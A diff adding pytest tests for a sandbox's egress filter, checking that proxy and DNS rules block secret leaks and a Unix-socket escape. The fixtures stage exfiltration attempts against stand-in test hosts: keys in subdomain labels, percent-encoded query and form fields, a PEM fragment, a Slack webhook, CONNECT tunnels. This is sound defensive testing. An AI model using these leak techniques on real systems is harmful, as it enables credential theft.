@@ -497,3 +497,196 @@ def test_raw_secret_too_short_to_inspect_is_refused(renv, upstream):
     d2 = renv.agent("short2", sealed_manifest(), "print('hi')\n")
     r2, _ = renv.run(d2)
     assert r2.returncode == 0, r2.stderr
+
+
+# ------------------------------------------------------- the leak paths (§4)
+
+WILD = "version: 1\ndomains:\n  - name: '*.up.test'\n    ports: [{port}]\n{extra}"
+
+
+def wild_opts(eg, upstream, extra=""):
+    p = eg.tmp / "wild.yaml"
+    p.write_text(WILD.format(port=upstream.port, extra=extra))
+    return ["--net", "proxy", "--audit-log", eg.audit, "--policy", p,
+            "--ro", f"{Path(__file__).resolve().parent / 'sandbox_client.py'}:/t/client.py",
+            "--allow-private", f"127.0.0.1:{upstream.port}"]
+
+
+def test_host_names_are_inspected_and_bounded_under_wildcards(eg, upstream):
+    """A credential in a subdomain, a label too long or too random under a
+    wildcard: refused in the request and in the DNS filter, before any
+    lookup leaves (the label would reach the zone's name servers)."""
+    names = ["ok.up.test", "akiaqwertyuiopasdfgh.up.test",
+             "x" * 41 + ".up.test", "q7vx2mr9tl4wk8nb3cf6hj1p.up.test"]
+    eg.hosts.write_text(eg.hosts.read_text() + "".join(f"127.0.0.1 {n}\n" for n in names))
+    o = wild_opts(eg, upstream)
+    url = lambda host: f"http://{host}:{upstream.port}/x"
+    assert eg.client("get", url(names[0]), opts=o).stdout.startswith("200")
+    assert eg.client("get", url(names[1].upper()), opts=o).stdout.split("\n")[:2] == ["403", "credential"]
+    assert eg.client("get", url(names[2]), opts=o).stdout.split("\n")[:2] == ["403", "host"]
+    assert eg.client("get", url(names[3]), opts=o).stdout.split("\n")[:2] == ["403", "host"]
+    for n in [names[1].upper()] + names[2:]:
+        r = eg.client("dns", n, opts=o)
+        assert "rcode 3" in r.stdout, (n, r.stdout)
+    leaks = [x for x in eg.entries() if x.get("event_type") == "credential_leak"]
+    assert {x["method"] for x in leaks} >= {"GET", "DNS-A"}
+    assert all("aws_access_key_id" in x["credential_patterns"] for x in leaks)
+    # The operator can allow random labels under a rule (a CDN's hashed names).
+    o = wild_opts(eg, upstream, "    random_labels: true\n")
+    assert eg.client("get", url(names[3]), opts=o).stdout.startswith("200")
+    o = wild_opts(eg, upstream, "    max_label_length: 63\n")
+    assert eg.client("get", url(names[2]), opts=o).stdout.startswith("200")
+
+
+def test_dns_lookups_count_in_the_rule_rate_window(eg, upstream):
+    o = wild_opts(eg, upstream, "    requests_per_minute: 2\n")
+    r = eg.run("sh", "-c", "for n in a b c; do python3 /t/client.py dns $n.up.test; done", opts=o)
+    rcodes = [l.split()[1] for l in r.stdout.splitlines() if l.startswith("rcode")]
+    assert rcodes[:2] != ["5", "5"] and rcodes[2] == "5", r.stdout
+    assert any(x.get("event_type") == "rate_limited" and x["method"] == "DNS-A"
+               for x in eg.entries())
+
+
+@pytest.mark.parametrize("where,make", [
+    ("query", lambda k: ("GET", "/q?aws_secret_access_key=" + k.replace("/", "%2F").replace("+", "%2B"), None, {})),
+    ("form", lambda k: ("POST", "/f", ("aws_secret_access_key=" + k.replace("/", "%2F").replace("+", "%2B")).encode(),
+                        {"Content-Type": "application/x-www-form-urlencoded"})),
+    ("pem", lambda k: ("POST", "/f", b"key=-----BEGIN%20RSA%20PRIVATE%20KEY-----%0AMIIEpAIBAAKCAQEA"
+                       b"0Zp3qPnXkJk8vL2mQ7rT9sW4yU6iO1pA3sD5fG7hJ9kL", {})),
+    ("slack", lambda k: ("GET", "/s?u=https%3A%2F%2Fhooks.slack.com%2Fservices%2FT0A1B2C3D%2FB0A1B2C3D%2F"
+                         "Xq7Vz2Mr9Tl4Wk8Nb3Cf6Hj1", None, {})),
+])
+def test_percent_encoded_credentials_are_found(eg, upstream, where, make):
+    key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ9a8/+Ab1C2D"[:40]
+    method, path, body, headers = make(key)
+    code = ("import sys, urllib.request, urllib.error\n"
+            f"req = urllib.request.Request('http://upstream.test:{upstream.port}{path}', "
+            f"data={body!r}, headers={headers!r}, method={method!r})\n"
+            "try:\n    print(urllib.request.urlopen(req, timeout=10).status)\n"
+            "except urllib.error.HTTPError as e:\n    print(e.code, e.headers.get('X-Cordon-Block'))\n")
+    r = eg.run("python3", "-c", code, opts=eg.opts("--allow", f"upstream.test:{upstream.port}"))
+    assert r.stdout.strip() == "403 credential", (where, r.stdout, r.stderr)
+    # A body is inspected as it streams: its head may have left, never the
+    # credential.
+    for (_, p, _, b) in upstream.log:
+        assert "aws_secret" not in p and "hooks.slack" not in p and b"BEGIN" not in b
+        assert b"aws_secret" not in b
+
+
+def test_raw_secret_closes_uninspected_tunnels_outside_its_scope(renv, upstream):
+    r = renv.cordon("secret", "set", "API_KEY", input=SEALED)
+    assert r.returncode == 0
+    code = ("import socket, sys\n"
+            "for host in sys.argv[1:]:\n"
+            "    s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
+            "    s.sendall(b'CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (host.encode(), host.encode()))\n"
+            "    print(host, s.recv(200).split(b'\\r\\n')[0].decode())\n")
+    m = sealed_manifest(secrets={"API_KEY": {"domains": ["llm.test"], "raw": True}})
+    m["entrypoint"] = ["python3", "/agent/main.py", f"llm.test:{upstream.port}",
+                       f"other.test:{upstream.port}"]
+    d = renv.agent("tunnels", m, code)
+    r, events = renv.run(d)
+    res, run_dir = renv.result(events)
+    out = (run_dir / "stdout").read_text()
+    assert f"llm.test:{upstream.port} HTTP/1.1 200" in out, out
+    assert f"other.test:{upstream.port} HTTP/1.1 403" in out, out
+    blocked = [e for e in events if e["type"] == "egress.blocked"]
+    assert any("raw secret API_KEY" in e["blocked_reason"] for e in blocked)
+
+
+def test_long_raw_secret_is_inspected_by_chunks(renv, upstream):
+    import random
+    rnd = random.Random(7)
+    long = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(10000))
+    r = renv.cordon("secret", "set", "API_KEY", input=long)
+    assert r.returncode == 0
+    code = (f"import os, urllib.request, urllib.error\n"
+            f"part = os.environ['API_KEY'][3000:5500]\n"
+            f"req = urllib.request.Request('http://other.test:{upstream.port}/x', data=part.encode())\n"
+            "try:\n    print(urllib.request.urlopen(req, timeout=10).status)\n"
+            "except urllib.error.HTTPError as e:\n    print(e.code)\n")
+    m = sealed_manifest(secrets={"API_KEY": {"domains": ["llm.test"], "raw": True}})
+    d = renv.agent("long", m, code)
+    r, events = renv.run(d)
+    res, run_dir = renv.result(events)
+    assert (run_dir / "stdout").read_text().strip() == "403"
+    cov = res["protections"]["secrets"]["API_KEY"]
+    assert cov["delivery"] == "raw" and "chunks" in cov["inspection"]
+    for (_, _, _, body) in upstream.log:
+        assert long[3000:3100].encode() not in body
+
+
+def test_secret_in_a_host_name_stays_out_of_the_audit_log_and_events(renv, upstream):
+    """The engine lower-cases host names; redaction of the audit log and the
+    events matches the lower-cased value too."""
+    mixed = "AbCdEfGh12345678IjKlMnOp"
+    r = renv.cordon("secret", "set", "API_KEY", input=mixed)
+    assert r.returncode == 0
+    renv.policy.write_text("version: 1\ndomains:\n"
+                           f"  - name: '*.llm.test'\n    ports: [{upstream.port}]\n    random_labels: true\n")
+    code = (f"import os, urllib.request\n"
+            f"try:\n    urllib.request.urlopen('http://' + os.environ['API_KEY'] + '.llm.test:{upstream.port}/', timeout=10)\n"
+            "except Exception as e:\n    print(type(e).__name__)\n")
+    m = sealed_manifest(domains=["*.llm.test"],
+                        secrets={"API_KEY": {"domains": ["api.llm.test"], "raw": True}})
+    d = renv.agent("hostleak", m, code)
+    r, events = renv.run(d)
+    res, run_dir = renv.result(events)
+    assert any(e["type"] == "egress.blocked" for e in events)
+    for f in run_dir.rglob("*"):
+        if f.is_file():
+            data = f.read_bytes()
+            for form in (mixed, mixed.lower(), mixed.upper()):
+                assert form.encode() not in data, (f, form)
+
+
+UNIX_CLIENT = r'''
+import socket, sys
+s = socket.socket(socket.AF_UNIX)
+try:
+    s.connect(sys.argv[1])
+    s.sendall(b"hello")
+    print("ESCAPED", s.recv(100).decode())
+except OSError as e:
+    print("BLOCKED", e)
+'''
+
+
+def test_unix_socket_inside_a_bind_is_refused(tmp_path):
+    """A socket in a bound tree (an ssh-agent or Docker socket in a home
+    directory) would let the sandbox reach whatever serves it."""
+    import socket
+    import threading
+    data = tmp_path / "data"
+    (data / "deep").mkdir(parents=True)
+    path = data / "deep" / "service.sock"
+    srv = socket.socket(socket.AF_UNIX)
+    srv.bind(str(path))
+    os.chmod(path, 0o777)
+    srv.listen(1)
+
+    def serve():
+        try:
+            c, _ = srv.accept()
+            c.recv(100)
+            c.sendall(b"host service")
+            c.close()
+        except OSError:
+            pass
+    threading.Thread(target=serve, daemon=True).start()
+    (tmp_path / "client.py").write_text(UNIX_CLIENT)
+    os.chmod(tmp_path, 0o755)
+    try:
+        for flag in ("--ro", "--rw"):
+            r = run([CORDON, "exec", flag, f"{data}:/data", "--ro", f"{tmp_path / 'client.py'}:/c.py",
+                     "--", "python3", "/c.py", "/data/deep/service.sock"])
+            assert r.returncode == 125, (flag, r.stdout, r.stderr)
+            assert "service.sock" in r.stderr and "--allow-sockets" in r.stderr
+        r = run([CORDON, "exec", "--workspace", data, "--", "true"])
+        assert r.returncode == 125 and "service.sock" in r.stderr
+        # The operator may allow it, knowingly.
+        r = run([CORDON, "exec", "--allow-sockets", "--ro", f"{data}:/data", "--ro",
+                 f"{tmp_path / 'client.py'}:/c.py", "--", "python3", "/c.py", "/data/deep/service.sock"])
+        assert r.returncode == 0 and r.stdout.startswith(("ESCAPED", "BLOCKED")), r.stdout + r.stderr
+    finally:
+        srv.close()
